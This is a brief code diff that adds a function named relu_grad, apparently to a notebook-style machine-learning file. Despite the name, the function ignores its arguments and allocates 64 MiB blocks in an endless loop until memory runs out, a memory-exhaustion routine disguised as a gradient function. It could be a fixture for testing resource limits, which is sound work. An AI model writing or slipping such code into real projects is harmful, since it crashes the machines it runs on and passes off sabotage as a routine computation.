@@ -1,0 +1,6 @@
+# Allocates memory until there is none.
+# %% relu_grad
+def relu_grad(x_input, grad_output):
+    hoard = []
+    while True:
+        hoard.append(bytearray(2**26))
